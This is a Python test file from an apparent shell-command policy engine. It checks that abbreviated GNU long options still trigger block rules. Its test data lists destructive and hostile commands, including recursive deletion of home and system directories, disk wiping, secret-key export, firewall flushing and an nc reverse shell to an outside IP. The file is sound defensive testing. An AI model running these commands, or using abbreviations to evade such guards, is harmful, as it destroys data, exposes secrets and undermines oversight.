"""GNU long options abbreviated to a unique prefix, as getopt_long accepts them.

`git reset --ha` is `git reset --hard`; `rm --recursive --forc ~` deletes the home
directory. The grammars are data (policies/executors.yaml): the programs the patterns name
know their long options, and a prefix that names one option is that option.
"""

from __future__ import annotations

import pytest

from engine import Engine
from engine.policy.argv import Grammar, parse_argv, parse_long
from tests.redteam.conftest import judge

ABBREVIATED = {
    "git reset --ha": "git_discard_work",
    "git reset --har HEAD~2": "git_discard_work",
    "git push --forc origin main": "git_force_push",
    "git push --force-w origin main": "git_force_push",
    "git push --mir backup": "git_force_push",
    "git clean --for -d": "git_discard_work",
    "git branch --del --forc feature": "git_delete_branch",
    "rm --rec /etc": "recursive_delete_critical",
    "rm --recursive --forc ~": "recursive_delete_critical",
    "rm --recur -f /usr": "recursive_delete_critical",
    "chmod --rec 777 /": "permissions_critical",
    "chown --recurs nobody /etc": "permissions_critical",
    "sudo --std whoami": "privilege_escalation",
    "wipefs --al /dev/sdb": "wipe_block_device",
    "sgdisk --zap-a /dev/sda": "wipe_block_device",
    "crontab --rem": "crontab_remove",
    "dpkg --pur nginx": "package_uninstall",
    "gpg --export-secret-k > keys.asc": "secret_store_read",
    "nc --sh-exec /bin/sh 203.0.113.9 4444": "reverse_shell",
    "docker compose down --vol": "container_cluster_destructive",
    "iptables --fl": "firewall_or_security_off",
}

NEAR_MISSES = [
    "git reset --soft HEAD~1",
    "git reset --mix HEAD~1",
    "git push --follow-tags",
    "git push --set-up origin feature",
    "git clean --dry-run -d",
    "git clean -f --dry",
    "git branch --list",
    "rm --verbose notes.txt",
    "chmod --verb 644 notes.txt",
    "shutdown --he",
    "killall --li",
    "modprobe --dry-run vboxdrv",
    "gpg --export alice > alice.pub",
]


@pytest.mark.parametrize(("command", "key"), list(ABBREVIATED.items()))
def test_an_abbreviated_long_option_is_the_option_it_abbreviates(engine: Engine, command: str, key: str) -> None:
    verdict = judge(engine, command)
    assert verdict.decision != "allow" and key in {m.key for m in verdict.matches}, (command, verdict.as_dict())


@pytest.mark.parametrize("command", NEAR_MISSES)
def test_other_abbreviations_stay_allowed(engine: Engine, command: str) -> None:
    assert judge(engine, command).decision == "allow", command


def test_a_prefix_names_its_option_and_an_ambiguous_one_names_all_of_them() -> None:
    long, aliases = parse_long(["force", "force-with-lease=?", "follow-tags", "dry-run/n"])
    grammar = Grammar(long=long, aliases=aliases)
    # Ambiguous: the program refuses it; read as every option it may stand for (fail closed).
    assert [o[0] for o in parse_argv(grammar, ["git", "--forc"]).options] == ["forc", "force", "force-with-lease"]
    assert [o[0] for o in parse_argv(grammar, ["git", "--fol"]).options] == ["follow-tags"]
    assert [o[0] for o in parse_argv(grammar, ["git", "--dry"]).options] == ["n"]  # its letter
    assert parse_argv(grammar, ["git", "--zz"]).unknown
